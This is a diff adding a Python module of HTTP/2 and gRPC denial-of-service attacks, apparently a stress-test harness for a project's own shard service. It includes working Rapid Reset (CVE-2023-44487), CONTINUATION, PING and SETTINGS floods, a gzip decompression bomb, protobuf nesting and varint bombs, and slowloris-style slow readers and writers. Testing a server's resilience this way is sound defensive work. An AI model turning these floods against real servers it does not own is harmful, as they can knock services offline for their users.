@@ -1,0 +1,320 @@
+"""What hostile peers do to a port: each attack is a function (target, sent, over).
+
+`target` opens connections, `sent` is a Counter of what was sent, and `over()` says when to stop. An
+attack goes on with a new connection when the server has closed one. Nobody reads what the server
+says, unless an attack is about reading.
+"""
+
+import contextlib
+import random
+import socket
+import ssl
+import struct
+import time
+import zlib
+
+import http2
+from http2 import Frame
+
+_SHARD = "/dslide.v1.ShardService/"
+_SEND_SECONDS = 2.0
+_BATCH = 64 * 1024
+# Of a flood that does not end by itself, on one connection.
+CONTINUATION_BYTES = 64 << 20
+
+
+class Target:
+    """A server's port; `tls`: an ssl.SSLContext, None for plaintext."""
+
+    def __init__(self, address, tls=None):
+        host, _, port = address.rpartition(":")
+        self._place = host, int(port)
+        self._tls = tls
+
+    def tcp(self):
+        """A connection over which nothing was said."""
+        connection = socket.create_connection(self._place, timeout=_SEND_SECONDS)
+        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        return connection
+
+    def open(self):
+        """A connection, encrypted where the port wants it. OSError when it is refused."""
+        connection = self.tcp()
+        if self._tls is None:
+            return connection
+        try:
+            return self._tls.wrap_socket(connection, server_hostname="localhost")
+        except (OSError, ssl.SSLError):
+            connection.close()
+            raise
+
+    def http2(self, settings=None):
+        """As open(), with HTTP/2's introduction said."""
+        connection = self.open()
+        try:
+            connection.sendall(http2.PREFACE + Frame(
+                http2.SETTINGS, 0, 0, http2.settings_payload(settings or {})).encode())
+        except OSError:
+            connection.close()
+            raise
+        return connection
+
+
+def _headers(method=_SHARD + "GetServerInfo", content_type="application/grpc", extra=()):
+    return http2.encode_headers([
+        (":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "localhost"),
+        ("te", "trailers"), ("content-type", content_type), *extra])
+
+
+def _again(body):
+    """The attack `body(connection...)` again and again, over new connections."""
+
+    def attack(target, sent, over):
+        while not over():
+            try:
+                body(target, sent, over)
+            except (OSError, ssl.SSLError, ValueError):
+                sent["closed"] += 1
+                time.sleep(0.005)  # whoever is refused at once must not spin
+
+    attack.__name__, attack.__doc__ = body.__name__, body.__doc__
+    return attack
+
+
+def _flood(target, sent, over, what, chunk, settings=None, count=1, limit=None):
+    """Sends `chunk()` again and again over one connection."""
+    with target.http2(settings) as connection:
+        total = 0
+        while not over() and (limit is None or total < limit):
+            data = chunk()
+            connection.sendall(data)
+            total += len(data)
+            sent[what] += count
+            sent["bytes"] += len(data)
+
+
+# --- floods of frames ----------------------------------------------------------------------------
+
+
+@_again
+def rapid_reset(target, sent, over):
+    """Streams that are opened and reset at once (CVE-2023-44487)."""
+    block = _headers()
+    streams = iter(range(1, 1 << 31, 2))
+
+    def chunk():
+        return b"".join(
+            Frame(http2.HEADERS, http2.END_HEADERS, stream, block).encode()
+            + Frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8)).encode()
+            for stream in (next(streams) for _ in range(200)))
+
+    _flood(target, sent, over, "streams", chunk, count=200)
+
+
+@_again
+def continuation_flood(target, sent, over):
+    """A header block that never ends, 64 MiB a connection."""
+    with target.http2() as connection:
+        connection.sendall(Frame(http2.HEADERS, 0, 1, _headers()).encode())
+        piece = http2.encode_headers([("x", "y" * 100)] * 150)
+        frame = Frame(http2.CONTINUATION, 0, 1, piece).encode()
+        total = 0
+        while not over() and total < CONTINUATION_BYTES:
+            connection.sendall(frame * 4)
+            total += 4 * len(frame)
+            sent["bytes"] += 4 * len(frame)
+
+
+@_again
+def ping_flood(target, sent, over):
+    """PINGs, which have to be answered."""
+    chunk = Frame(http2.PING, 0, 0, b"abcdefgh").encode() * 1000
+    _flood(target, sent, over, "pings", lambda: chunk, count=1000)
+
+
+@_again
+def settings_flood(target, sent, over):
+    """SETTINGS, which have to be confirmed."""
+    chunk = Frame(http2.SETTINGS, 0, 0, http2.settings_payload(
+        {http2.SETTINGS_INITIAL_WINDOW_SIZE: 65535})).encode() * 1000
+    _flood(target, sent, over, "settings", lambda: chunk, count=1000)
+
+
+@_again
+def empty_frames(target, sent, over):
+    """DATA frames without data, on a stream that stays open."""
+    first = Frame(http2.HEADERS, http2.END_HEADERS, 1, _headers(_SHARD + "Scatter")).encode()
+    parts = iter([first])
+    chunk = Frame(http2.DATA, 0, 1, b"").encode() * 1000
+    _flood(target, sent, over, "frames", lambda: next(parts, chunk), count=1000)
+
+
+# --- what is no gRPC -----------------------------------------------------------------------------
+
+
+@_again
+def bad_preface(target, sent, over):
+    """Bytes of no protocol, and another protocol's."""
+    source = random.Random(sent["connections"])
+    with target.open() as connection:
+        connection.sendall(source.choice((source.randbytes(4096), b"GET / HTTP/1.1\r\n\r\n",
+                                          http2.PREFACE[:-1] + b"x" * 100)))
+        sent["connections"] += 1
+        connection.recv(1)
+
+
+@_again
+def wrong_content_type(target, sent, over):
+    """Calls that are no gRPC calls, 50 a connection."""
+    with target.http2() as connection:
+        for stream in range(1, 101, 2):
+            connection.sendall(Frame(
+                http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream,
+                _headers(content_type=("text/plain", "", "application/json")[stream % 3])).encode())
+            sent["calls"] += 1
+        time.sleep(0.02)
+
+
+# --- messages ------------------------------------------------------------------------------------
+
+
+def _call(connection, stream, method, body, extra=()):
+    """A call with a body of at most a window, its end included."""
+    data = Frame(http2.HEADERS, http2.END_HEADERS, stream, _headers(method, extra=extra)).encode()
+    for at in range(0, len(body), http2.DEFAULT_MAX_FRAME):
+        part = body[at:at + http2.DEFAULT_MAX_FRAME]
+        last = at + len(part) == len(body)
+        data += Frame(http2.DATA, http2.END_STREAM if last else 0, stream, part).encode()
+    connection.sendall(data)
+
+
+def _calls(target, sent, over, method, body, extra=()):
+    """The same call, some times a connection; windows of 64 KiB are not waited for."""
+    with target.http2() as connection:
+        for stream in range(1, 41, 2):
+            if over():
+                return
+            _call(connection, stream, method, body, extra)
+            sent["calls"] += 1
+            time.sleep(0.002)
+
+
+def _prefixed(message, compressed=0):
+    return struct.pack(">BI", compressed, len(message)) + message
+
+
+@_again
+def giant_length(target, sent, over):
+    """Messages that claim to have 2 GiB or 4 GiB, and begin."""
+    said = (0x7FFFFFFF, 0x80000000, 0xFFFFFFFF)[sent["calls"] % 3]
+    _calls(target, sent, over, _SHARD + "Scatter", struct.pack(">BI", 0, said) + bytes(1000))
+
+
+def _gzip(plain):
+    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
+    return packer.compress(plain) + packer.flush()
+
+
+_BOMB = _gzip(bytes(16 << 20))
+
+
+@_again
+def compressed_bomb(target, sent, over):
+    """16 MiB of zeros in 70 KiB of gzip."""
+    _calls(target, sent, over, _SHARD + "CreateModel", _prefixed(_BOMB, compressed=1),
+           [("grpc-encoding", "gzip")])
+
+
+@_again
+def deep_nesting(target, sent, over):
+    """10,000 groups within each other."""
+    _calls(target, sent, over, _SHARD + "Hello", _prefixed(b"\x7b" * 10_000 + b"\x7c" * 10_000))
+
+
+@_again
+def varint_bomb(target, sent, over):
+    """Numbers that do not end, where a method wants a message of its own."""
+    method = (_SHARD + "Hello", _SHARD + "Step", _SHARD + "Gather")[sent["calls"] % 3]
+    _calls(target, sent, over, method, _prefixed(b"\x18" + b"\xff" * 30_000))
+
+
+# --- slow peers ----------------------------------------------------------------------------------
+
+
+def _hold(target, over, opening, count, sent):
+    """Opens `count` connections by `opening` and keeps them; those that are closed are replaced."""
+    held = []
+    with contextlib.ExitStack() as stack:
+        while not over():
+            if len(held) < count:
+                try:
+                    held.append(stack.enter_context(opening(target)))
+                    sent["connections"] += 1
+                except (OSError, ssl.SSLError):
+                    sent["closed"] += 1
+                    time.sleep(0.005)
+            else:
+                time.sleep(0.05)
+
+
+def idle_sockets(target, sent, over):
+    """1,000 connections that say nothing."""
+    _hold(target, over, Target.tcp, 1000, sent)
+
+
+def half_open_handshakes(target, sent, over):
+    """200 connections that begin to introduce themselves, and do not go on."""
+
+    def opening(target):
+        connection = target.tcp()
+        # The head of a TLS handshake record, which is a beginning of nothing without TLS, too.
+        connection.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
+        return connection
+
+    _hold(target, over, opening, 200, sent)
+
+
+@_again
+def slow_writer(target, sent, over):
+    """50 connections with a message each that comes one byte at a time."""
+    with contextlib.ExitStack() as stack:
+        held = [stack.enter_context(target.http2()) for _ in range(50)]
+        for connection in held:
+            connection.sendall(Frame(http2.HEADERS, http2.END_HEADERS, 1,
+                                     _headers(_SHARD + "Scatter")).encode())
+        message = _prefixed(bytes(4 << 10))
+        for byte in message:
+            for connection in held:
+                connection.sendall(Frame(http2.DATA, 0, 1, bytes([byte])).encode())
+                sent["bytes"] += 1
+            if over():
+                return
+            time.sleep(0.1)
+
+
+@_again
+def slow_reader(target, sent, over):
+    """50 connections with 60 calls each whose answers are not read, in windows of one byte."""
+    with contextlib.ExitStack() as stack:
+        held = [stack.enter_context(target.http2({http2.SETTINGS_INITIAL_WINDOW_SIZE: 1}))
+                for _ in range(50)]
+        for connection in held:
+            connection.sendall(b"".join(
+                Frame(http2.HEADERS, http2.END_HEADERS, stream, _headers()).encode()
+                + Frame(http2.DATA, http2.END_STREAM, stream, _prefixed(b"")).encode()
+                for stream in range(1, 121, 2)))
+            sent["calls"] += 60
+        while not over():
+            time.sleep(0.1)
+
+
+def busy_neighbour(_target, sent, over):
+    """No attack: computes beside the server, as the attacks do."""
+    while not over():
+        sent["rounds"] += sum(range(1000)) > 0
+
+
+ATTACKS = (busy_neighbour, rapid_reset, continuation_flood, ping_flood, settings_flood,
+           empty_frames, bad_preface, wrong_content_type, giant_length, compressed_bomb,
+           deep_nesting, varint_bomb, idle_sockets, half_open_handshakes, slow_writer,
+           slow_reader)
